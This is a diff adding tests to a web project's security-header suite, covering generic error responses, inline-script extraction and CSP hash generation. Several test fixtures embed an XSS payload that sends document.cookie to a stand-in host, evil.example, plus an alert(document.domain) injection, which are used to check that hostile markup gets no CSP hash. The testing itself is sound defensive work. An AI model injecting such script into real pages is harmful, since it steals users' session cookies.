@@ -28,6 +28,21 @@ describe('API response headers', () => {
       expect(h.get('cache-control'), path).toBe('no-store');
     }
   });
+
+  it('answers an unexpected failure with a JSON 500 that carries no message, path or stack', async () => {
+    const broken = await makeKit();
+    const cookie = broken.cookie;
+    // The database goes away under the API: every query now throws inside a handler.
+    broken.db.$client.close();
+    const res = await broken.call('GET', '/api/admin/companies', { cookie });
+    expect(res.status).toBe(500);
+    expect(res.headers.get('content-type')).toContain('application/json');
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    const body = await res.text();
+    expect(JSON.parse(body)).toEqual({ error: 'Something went wrong on our side. Please try again.' });
+    expect(body).not.toMatch(/\bat \S+|SQLITE|\.ts|\/tmp\//);
+    broken.cleanup();
+  });
 });
 
 describe('static site _headers', () => {
@@ -58,6 +73,26 @@ describe('static site _headers', () => {
     expect(inlineScripts(html)).toEqual([theme]);
   });
 
+  it('does not take "<script>" text inside attribute values, comments or templates for a script', () => {
+    const evil = 'fetch("//evil.example/?c="+document.cookie)';
+    const html =
+      `<!doctype html><html><head><meta name="description" content="<script>${evil}</script>">` +
+      `<script>${theme}</script></head><body>` +
+      `<div data-description='<script>${evil}</script>'>x</div>` +
+      `<astro-island props="{&quot;d&quot;:&quot;<script>${evil}</script>&quot;}"></astro-island>` +
+      `<!-- <script>${evil}</script> --><template><script>${evil}</script></template>` +
+      `<textarea><script>${evil}</script></textarea><title-x title="a>b"></title-x>` +
+      `<script type="module">${island}</script></body></html>`;
+    expect(inlineScripts(html)).toEqual([theme, island]);
+  });
+
+  it('reads a script as the browser does, up to its real end tag', () => {
+    // Inside a script "<!--<script>" makes the next "</script>" part of the text (double-escaped state).
+    const tricky = 'var s = "<!--<script>"; var t = "</script>"; var u = "-->";';
+    expect(inlineScripts(`<script>${tricky}</script><p>after</p>`)).toEqual([tricky]);
+    expect(inlineScripts('<SCRIPT TYPE="Module">go()</SCRIPT ><script type=" text/javascript ">x()</script>')).toEqual(['go()', 'x()']);
+  });
+
   it('allows exactly the inline scripts of the build, by hash, and nothing inline otherwise', () => {
     const csp = contentSecurityPolicy([sha(theme), sha(island), sha(theme)]);
     expect(csp).toContain(`script-src 'self' ${[sha(theme), sha(island)].sort().join(' ')};`);
@@ -82,5 +117,28 @@ describe('static site _headers', () => {
     expect(readFileSync(join(dir, '_headers'), 'utf8')).toContain('X-From-Public: yes');
     // The file itself is not served.
     expect((await serveSite(dir, new Request('http://127.0.0.1:4321/_headers'))).status).toBe(404);
+  });
+
+  it('a page with a hostile description adds no hash for it', () => {
+    const hostile = mkdtempSync(join(tmpdir(), 'ea-headers-hostile-'));
+    try {
+      const evil = 'alert(document.domain)';
+      writeFileSync(
+        join(hostile, 'index.html'),
+        `<!doctype html><meta property="og:description" content="<script>${evil}</script>"><script>${theme}</script>` +
+          `<p data-text="</p><script>${evil}</script>">x</p>`,
+      );
+      // Pages that repeat known script tags are not parsed again; a new tag (even in an attribute) is.
+      for (let i = 0; i < 5; i += 1) writeFileSync(join(hostile, `same-${i}.html`), `<!doctype html><script>${theme}</script><p>${i}</p>`);
+      writeFileSync(join(hostile, 'ld.html'), `<!doctype html><script>${theme}</script><script type="application/ld+json">{"a":1}</script>`);
+      const result = writeSiteHeaders(hostile, 'assets');
+      expect(result).toMatchObject({ hashes: 1, pages: 7 });
+      expect(result.parsed).toBeLessThanOrEqual(2);
+      const csp = readFileSync(join(hostile, '_headers'), 'utf8');
+      expect(csp).toContain(sha(theme));
+      expect(csp).not.toContain(sha(evil));
+    } finally {
+      rmSync(hostile, { recursive: true, force: true });
+    }
   });
 });
